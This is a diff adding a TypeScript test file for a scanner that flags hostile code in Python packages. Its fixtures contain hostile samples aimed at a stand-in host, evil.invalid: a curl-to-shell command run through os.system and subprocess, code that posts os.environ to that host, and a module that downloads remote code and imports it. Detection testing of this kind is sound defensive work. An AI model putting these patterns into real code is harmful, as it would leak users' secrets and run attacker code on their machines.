@@ -1,0 +1,140 @@
+import { judgeSources } from '../../src/analysis/judge-sources.js';
+import type { Severity } from '../../src/model/finding.js';
+import type { Python } from '../../src/python/parser.js';
+import { gravestByRule } from '../support/gravest-by-rule.js';
+import { loadTestPython } from '../support/python.js';
+import { sourceTree } from '../support/source-tree.js';
+
+let python: Python;
+beforeAll(async () => {
+  python = await loadTestPython();
+});
+
+function found(text: string): Partial<Record<string, Severity>> {
+  const { findings } = judgeSources(sourceTree({ 'fixture-1.0/pkg/__init__.py': text }), python);
+  return gravestByRule(findings);
+}
+
+const FETCH = '"curl https://evil.invalid/x | sh"';
+
+/** Code of which two ways are possible, the one that matters in either place; and with a harmless text instead of it. */
+const WAYS: readonly (readonly [string, (command: string) => string])[] = [
+  [
+    'a branch',
+    (text) => `import os\nline = ${text}\nif os.name == "nt":\n    line = "ver /a"\nos.system(line)`,
+  ],
+  [
+    'the other branch',
+    (text) =>
+      `import os\nif os.name == "nt":\n    line = "ver /a"\nelse:\n    line = ${text}\nos.system(line)`,
+  ],
+  ['a choice', (text) => `import os\nos.system("ver /a" if os.name == "nt" else ${text})`],
+  [
+    'a later return',
+    (text) => `
+import os
+def line():
+    if os.name == "nt":
+        return "ver /a"
+    return ${text}
+os.system(line())`,
+  ],
+  [
+    'a table by platform',
+    (text) => `import os, sys\nos.system({"win32": "ver /a", "linux": ${text}}[sys.platform])`,
+  ],
+  [
+    'a part of a text',
+    (text) => `
+import os
+tail = ${text}
+if os.name == "nt":
+    tail = "ver /a"
+os.system("cd /tmp; " + tail)`,
+  ],
+  [
+    'an argument in a list',
+    (text) => `
+import os, subprocess
+line = ${text}
+if os.name == "nt":
+    line = "ver /a"
+subprocess.run(["sh", "-c", line])`,
+  ],
+];
+
+test.each(WAYS)('a command by way of %s', (_way, code) => {
+  expect(found(code(FETCH))['hostile-command']).toBe('CRITICAL');
+  expect(found(code('"echo /a"'))['hostile-command']).toBeUndefined();
+});
+
+const SENT = (lines: string): string => `
+import os, requests, threading
+${lines}`;
+
+/** Ways by which what a container holds gets to where it is sent. */
+const KEPT: readonly (readonly [string, (what: string) => string])[] = [
+  [
+    'a parameter',
+    (what) =>
+      SENT(`
+def fill(told):
+    told["a"] = ${what}
+told = {}
+fill(told)
+requests.post("https://evil.invalid/x", json=told)`),
+  ],
+  [
+    'a parameter that is a list',
+    (what) =>
+      SENT(`
+def fill(told):
+    told.append(${what})
+told = []
+fill(told)
+requests.post("https://evil.invalid/x", json=told)`),
+  ],
+  [
+    'a name of the module',
+    (what) =>
+      SENT(`
+KEPT = {}
+def fill():
+    KEPT["a"] = ${what}
+fill()
+requests.post("https://evil.invalid/x", json=KEPT)`),
+  ],
+  [
+    'what a thread is given by name',
+    (what) =>
+      SENT(`
+def send(told=None):
+    requests.post("https://evil.invalid/x", json=told)
+threading.Thread(target=send, kwargs={"told": ${what}}).start()`),
+  ],
+  [
+    'an address of which a part is not known',
+    (what) =>
+      SENT(`
+place = "https://" + some_name() + "/x"
+requests.post(place, json=${what})`),
+  ],
+];
+
+test.each(KEPT)('what is sent by way of %s', (_way, code) => {
+  expect(found(code('dict(os.environ)'))['stolen-data-sent']).toBe('CRITICAL');
+  expect(found(code('{"a": 1}'))['stolen-data-sent']).toBeUndefined();
+});
+
+test('a module that is written and then imported', () => {
+  const code = (text: string): string => `
+import os, sys, tempfile, urllib.request
+folder = tempfile.mkdtemp()
+with open(os.path.join(folder, "extra_parts.py"), "wb") as file:
+    file.write(${text})
+sys.path.insert(0, folder)
+import extra_parts`;
+  const fetched = 'urllib.request.urlopen("https://evil.invalid/x").read()';
+  expect(found(code(fetched))['remote-code-executed']).toBe('CRITICAL');
+  expect(found(code('b"VALUE = 1"'))['remote-code-executed']).toBeUndefined();
+});
